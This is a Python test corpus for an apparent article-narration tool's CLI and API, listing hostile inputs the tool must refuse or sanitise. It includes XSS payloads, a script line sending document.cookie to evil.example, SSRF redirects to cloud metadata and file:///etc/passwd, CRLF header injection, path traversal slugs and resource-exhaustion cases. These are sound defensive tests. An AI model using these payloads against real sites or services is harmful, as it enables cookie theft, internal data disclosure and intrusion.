"""The hostile-input corpus: what users, pages and servers may throw at Narrate, and what must come of it.

Every case is run through the CLI (test_cli_cases.py) and through the staff API (test_api_cases.py), unless
it has no form there (``cli``) or would only repeat a slow render (``api_too``). A case either is refused with
a clear one-line error (``Refused``: the error class and a phrase of its message), or becomes a published
episode (``Published``: words its transcript must say, its title, and what must never appear in its pages).

Kinds:
    file         the bytes as a file (named ``name``); the API gets them as the ``field`` of the JSON body
    stdin        the bytes on standard input (``narrate add -``); the API as for "file"
    url          a path on the hostile server (tests/hostile/server.py); the API gets it as ``url``
    api-text     ``body`` is the JSON body as the API gets it; the CLI gets its "url", if it has one
    feed-slug    ``slug`` as the feed of a good article (``--feed`` / ``"feed"``)
    episode-id   ``slug`` as an episode id in the API's episode routes (the CLI has none)
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Literal

from narrate.errors import ConfigError, EmptyArticleError, NarrateError, NotFoundError, SourceError

Kind = Literal["file", "stdin", "url", "api-text", "feed-slug", "episode-id"]

GOOD_TEXT = (
    "Harbour ferry returns\n\n"
    "The harbour ferry will run again from Monday after a year of repairs to its engines and the pier.\n\n"
    "Tickets cost the same as before, and the first boat leaves at seven in the morning every weekday.\n"
)
PARAGRAPH = "The council met on Monday and agreed to fund the library for three more years."


@dataclass(frozen=True)
class Refused:
    error: type[NarrateError]
    phrase: str
    """A part of the one-line message."""
    status: int | None = None
    """The API's status when it is not the error's http_status (a limit the service enforces itself)."""
    absent: tuple[str, ...] = ()
    """What the message must not say (a password from the URL)."""


@dataclass(frozen=True)
class Published:
    words: tuple[str, ...]
    """Words the transcript says, in this order."""
    title: str = ""
    """A part of the episode's title."""
    absent: tuple[str, ...] = ()
    """What neither the transcript nor the title may contain (markup, control characters)."""


Outcome = Refused | Published


@dataclass(frozen=True)
class Case:
    id: str
    kind: Kind
    outcome: Outcome
    data: bytes = b""
    name: str = "article.txt"
    field: str = "text"
    """The API's source field for file and stdin cases: text, html or markdown."""
    path: str = ""
    """The hostile server's path, for url cases."""
    slug: str = ""
    body: str = ""
    """The raw JSON body of an api-text case; "{host}" stands for the hostile server's host and port."""
    api: Outcome | None = None
    """What the API answers, when it differs from the CLI (the service refuses private addresses, large bodies)."""
    cli: bool = True
    """False: API only (the CLI has no such input)."""
    api_too: bool = True
    """False: CLI only (the same render through the API would only repeat a slow case)."""

    @property
    def api_outcome(self) -> Outcome:
        return self.api or self.outcome


def _html(body: str, title: str = "Harbour ferry returns", head: str = "") -> bytes:
    return (
        f"<!doctype html><html lang='en'><head><meta charset='utf-8'><title>{title}</title>{head}</head>"
        f"<body><article>{body}</article></body></html>"
    ).encode("utf-8")


_P = f"<p>{PARAGRAPH}</p>"
_NO_TEXT = Refused(EmptyArticleError, "no article text found")
_BINARY = Refused(SourceError, "binary data, not the text of an article")
_LIBRARY = Published(("council", "library", "three"))
_TOO_BIG_FOR_API = Refused(SourceError, "request body is over the limit", status=413)


CASES: list[Case] = [
    # -- empty and nearly empty ----------------------------------------------------------------------
    Case("empty-file", "file", _NO_TEXT, b""),
    Case("empty-stdin", "stdin", _NO_TEXT, b""),
    Case("whitespace-only", "file", _NO_TEXT, b"  \n\t\r\n \x0c \n"),
    Case("punctuation-only", "file", _NO_TEXT, b"!!! ... ??? ;;; --- ***\n\n(((( ))))"),
    Case("dashes-only-lines", "file", _NO_TEXT, b"- - - - - - - - - - - - - - - - -\n"),
    Case(
        "markup-only-html",
        "file",
        _NO_TEXT,
        b"<html><body><div><span></span></div></body></html>",
        "page.html",
        "html",
    ),
    Case(
        "only-an-image",
        "file",
        _NO_TEXT,
        b"<html><body><img src='a.png' alt='A ferry'></body></html>",
        "page.html",
        "html",
    ),
    Case(
        "only-an-image-markdown",
        "file",
        _NO_TEXT,
        b"![A ferry at the pier](ferry.png)\n\n*Photo: Coast News*\n",
        "a.md",
        "markdown",
    ),
    # -- binary and broken encodings ---------------------------------------------------------------
    Case("binary-bytes", "file", _BINARY, bytes(range(256)) * 64, "article.txt"),
    Case(
        "png-named-markdown",
        "file",
        _BINARY,
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 32,
        "notes.md",
        "markdown",
    ),
    Case("binary-stdin", "stdin", _BINARY, b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 16),
    Case(
        "invalid-utf8",
        "file",
        Published(("council", "library"), "council"),
        PARAGRAPH.encode() + b" \xff\xfe\xfa\xc3\x28 End.",
    ),
    Case(
        "stray-nul-bytes",
        "file",
        Published(("council", "library"), absent=("\x00",)),
        PARAGRAPH.replace("met", "met\x00").encode(),
    ),
    Case(
        "utf8-bom",
        "file",
        Published(("council", "library"), "council", absent=("\ufeff",)),
        b"\xef\xbb\xbf" + PARAGRAPH.encode(),
    ),
    Case("utf16-with-bom", "file", Published(("council", "library")), PARAGRAPH.encode("utf-16")),
    Case(
        "mixed-line-endings",
        "file",
        Published(("tickets", "seven", "weekday"), "Harbour ferry"),
        GOOD_TEXT.replace("\n\n", "\r\n\r\n", 1).replace("pier.\n", "pier.\r").encode(),
    ),
    # -- characters XML and the pages cannot carry -----------------------------------------------------
    Case(
        "control-characters-and-cdata-end-in-title",
        "file",
        Published(("council", "library"), "Ferry ]]> news", absent=("\x01", "\x1b", "\x0b")),
        ("Ferry \x01]]> news\x1b\n\n" + PARAGRAPH.replace("agreed", "agreed\x0b")).encode(),
    ),
    Case(
        "bidi-overrides-and-zero-width",
        "file",
        Published(("council", "library"), absent=("\u202e", "\u2066", "\u200b")),
        "Ferry \u202enews\u202c today\n\nThe coun\u200bcil met on \u2066Monday\u2069 and agreed to fund the library."
        .encode(),
    ),
    Case(
        "emoji-and-right-to-left",
        "file",
        Published(("council", "library"), "\u05e9\u05dc\u05d5\u05dd"),
        f"\u05e9\u05dc\u05d5\u05dd \U0001f44b \u0645\u0631\u062d\u0628\u0627\n\n"
        f"{PARAGRAPH} \U0001f3db\ufe0f\U0001f4da".encode(),
    ),
    Case(
        "lone-surrogates-in-json",
        "api-text",
        _LIBRARY,
        body='{"text": "' + PARAGRAPH + ' \\ud800\\udfff\\udc00 Done."}',
        cli=False,
    ),
    Case(
        "hostile-title-and-author-overrides",
        "api-text",
        Published(("council", "library"), "Budget <script>alert(1)</script> vote", absent=("\u202e", "\x00")),
        body=json.dumps(
            {"text": PARAGRAPH, "title": "Budget\u202e <script>alert(1)</script>\x00 vote", "author": "\x00\x01"}
        ),
        cli=False,
    ),
    # -- size ----------------------------------------------------------------------------------------
    Case(
        "twenty-megabytes-of-text",
        "file",
        Refused(SourceError, "larger than the 10485760-byte limit"),
        (PARAGRAPH + " ").encode() * (20 * 1024 * 1024 // (len(PARAGRAPH) + 1)),
        api=_TOO_BIG_FOR_API,
    ),
    Case(
        "one-sentence-of-50000-characters",
        "file",
        Published(("harbour", "ferry", "council")),
        (" ".join(["harbour ferry council river bridge market"] * 1200))[:50000].encode(),
        api_too=False,  # 38 minutes of audio: rendered once, through the CLI (about 15 s)
    ),
    Case(
        "title-of-10000-characters",
        "file",
        Published(("council", "library"), "Ferry"),
        _html(_P, title="Ferry " + "news " * 2000),
        "page.html",
        "html",
    ),
    # -- markup that must never run ----------------------------------------------------------------
    Case(
        "scripts-and-event-handlers",
        "file",
        Published(
            ("tram", "station", "hospital"), "Tram line", absent=("alert('inline')", "document.cookie", "onerror")
        ),
        _html(
            "<h1 onmouseover=\"alert('h1')\">Tram line opens</h1><script>alert('inline')</script>"
            "<p onclick=\"alert('p')\">The new tram line opens on Saturday with stops at the station and the "
            "hospital.</p>"
            "<img src=x onerror=\"alert('img')\"><iframe src='javascript:alert(1)'></iframe>"
            "<p>Fares are <a href='javascript:alert(2)'>listed online</a> and riders pay on board with a card.</p>",
            title="Tram line opens",
            head="<script>document.location='https://evil.example/?'+document.cookie</script>",
        ),
        "page.html",
        "html",
    ),
    Case(
        "script-in-markdown",
        "file",
        Published(("council", "library"), "Budget", absent=("alert", "onerror", "onclick")),
        f"# Budget <script>alert(1)</script>\n\n{PARAGRAPH}\n\n<script>\nalert(document.cookie)\n</script>\n\n"
        "<img src=x onerror=alert(3)> More <b onclick='alert(4)'>text</b> here for the readers.\n".encode(),
        "budget.md",
        "markdown",
    ),
    Case(
        "escaped-markup-is-text",
        "file",
        Published(("council", "library"), "Tags &lt;b&gt;"),
        f"Tags &lt;b&gt; and <script>alert('t')</script>\n\n{PARAGRAPH} Write <script>alert(1)</script> to test."
        .encode(),
    ),
    Case(
        "comments-and-cdata",
        "file",
        Published(("council", "library"), absent=("secret", "cdata")),
        _html(f"<!-- secret note --><![CDATA[ cdata words ]]>{_P}<!-- more secret -->"),
        "page.html",
        "html",
    ),
    Case(
        "deeply-nested-html",
        "file",
        Refused(EmptyArticleError, "nested more than 255 deep"),  # libxml2 drops what lies deeper
        b"<html><body>" + b"<div>" * 5000 + _P.encode() + b"</div>" * 5000 + b"</body></html>",
        "page.html",
        "html",
    ),
    Case(
        "nested-html-within-the-parser-limit",
        "file",
        _LIBRARY,
        b"<html><body>" + b"<div><section>" * 90 + _P.encode() + b"</section></div>" * 90 + b"</body></html>",
        "page.html",
        "html",
    ),
    Case(
        "unclosed-tags",
        "file",
        _LIBRARY,
        b"<html><body><article>" + b"<div><p><b><i><span>" * 40 + _P.encode(),
        "page.html",
        "html",
    ),
    Case(
        "markdown-backtick-storm",
        "file",
        Published(("council", "library")),
        # Each once took a regex minutes (backticks) or seconds (the others) to get through.
        f"# Storm\n\n{PARAGRAPH}\n\nx {'`' * 20000} y\n\n{'[' * 20000}](x)\n\n{'<!--' * 5000}\n".encode(),
        "storm.md",
        "markdown",
    ),
    # -- URLs ----------------------------------------------------------------------------------------
    Case(
        "url-good-page",
        "url",
        Published(("harbour", "ferry", "seven"), "Harbour ferry returns"),
        path="/article.html",
    ),
    Case(
        "url-page-with-scripts",
        "url",
        Published(("tram", "hospital", "card"), "Tram line", absent=("alert('inline')", "document.cookie")),
        path="/scripted.html",
    ),
    Case("url-invalid-utf8", "url", Published(("harbour", "ferry"), "Harbour ferry"), path="/invalid-utf8.html"),
    Case("url-redirect-loop", "url", Refused(SourceError, "redirect loop at"), path="/loop-a"),
    Case(
        "url-redirect-to-ipv6-loopback",
        "url",
        Refused(SourceError, "could not fetch"),  # the CLI may fetch anything; nothing listens there
        path="/to-ipv6-loopback",
        api=Refused(SourceError, "::1 is a private, loopback or link-local address"),
    ),
    Case(
        "url-redirect-to-cloud-metadata",
        "url",
        Refused(SourceError, "169.254.169.254 is a private, loopback or link-local address"),
        path="/to-metadata",
        cli=False,  # the CLI fetches what its user asks for; only the service guards addresses
    ),
    Case(
        "url-redirect-to-file",
        "url",
        Refused(SourceError, "redirected to file:///etc/passwd): only http and https"),
        path="/to-file",
    ),
    Case(
        "url-redirect-to-credentials",
        "url",
        Refused(SourceError, "user name or password are not supported", absent=("hunter2",)),
        path="/to-credentials",
    ),
    Case("url-gigabyte-declared", "url", Refused(SourceError, "larger than the 10485760-byte limit"), path="/gigabyte"),
    Case(
        "url-gigabyte-streamed",
        "url",
        Refused(SourceError, "larger than the 10485760-byte limit"),
        path="/gigabyte-streamed",
    ),
    Case(
        "url-never-ending-chunks",
        "url",
        Refused(SourceError, "larger than the 10485760-byte limit"),
        path="/chunked-forever",
    ),
    Case(
        "url-huge-content-length-short-body",
        "url",
        Refused(SourceError, "larger than the 10485760-byte limit"),
        path="/huge-length-short-body",
    ),
    Case(
        "url-body-shorter-than-declared",
        "url",
        Refused(SourceError, "connection closed after 300 of"),
        path="/short-body",
    ),
    Case("url-slow-loris-body", "url", Refused(SourceError, "no complete answer within 0.5 s"), path="/slow-body"),
    Case(
        "url-slow-loris-headers",
        "url",
        Refused(SourceError, "no complete answer within 0.5 s"),
        path="/slow-headers",
    ),
    Case("url-gzip-bomb", "url", _BINARY, path="/gzip-bomb"),
    Case("url-binary-as-octet-stream", "url", _BINARY, path="/image"),
    Case("url-pdf", "url", Refused(SourceError, "not a readable PDF"), path="/report.pdf"),
    Case("url-empty-page", "url", _NO_TEXT, path="/empty"),
    Case("url-http-404", "url", Refused(SourceError, "HTTP 404 Not Found"), path="/gone"),
    Case(
        "url-with-credentials",
        "api-text",
        Refused(SourceError, "user name or password are not supported", absent=("hunter2",)),
        body=json.dumps({"url": "http://editor:hunter2@{host}/article.html"}),
    ),
    Case(
        "url-javascript-scheme",
        "api-text",
        Refused(SourceError, "javascript:alert(document.cookie): no such file"),  # to the CLI, a file name
        body=json.dumps({"url": "javascript:alert(document.cookie)"}),
        api=Refused(SourceError, "only http and https"),
    ),
    Case(
        "url-header-injection",
        "api-text",
        Refused(SourceError, "control characters"),
        body=json.dumps({"url": "http://{host}/article.html\r\nX-Injected: 1"}),
    ),
    Case(
        "url-ftp-with-credentials",
        "api-text",
        Refused(SourceError, "only http and https", absent=("hunter2",)),
        body=json.dumps({"url": "ftp://editor:hunter2@{host}/article.html"}),
    ),
    Case(
        "url-file-scheme",
        "api-text",
        Refused(SourceError, "only http and https"),
        body=json.dumps({"url": "file:///etc/passwd"}),
    ),
    # -- names with "../" ------------------------------------------------------------------------------
    Case("feed-slug-parent-directory", "feed-slug", Refused(ConfigError, "unknown feed '../../etc'"), slug="../../etc"),
    Case("feed-slug-absolute-path", "feed-slug", Refused(ConfigError, "unknown feed '/tmp/x'"), slug="/tmp/x"),
    Case("episode-id-dot-dot", "episode-id", Refused(NotFoundError, "no episode '..'"), slug="..", cli=False),
    Case(
        "episode-id-parent-directory",
        "episode-id",
        Refused(NotFoundError, "not found"),
        slug="../narrate.db",
        cli=False,
    ),
    Case(
        "episode-id-encoded-dots",
        "episode-id",
        Refused(NotFoundError, "not found"),
        slug="..%2F..%2Fnarrate.db",
        cli=False,
    ),
]

# Cases the CLI also runs as a real process (one refused, one published), for exit codes and a clean stderr.
SUBPROCESS_CASES = ("binary-stdin", "control-characters-and-cdata-end-in-title")
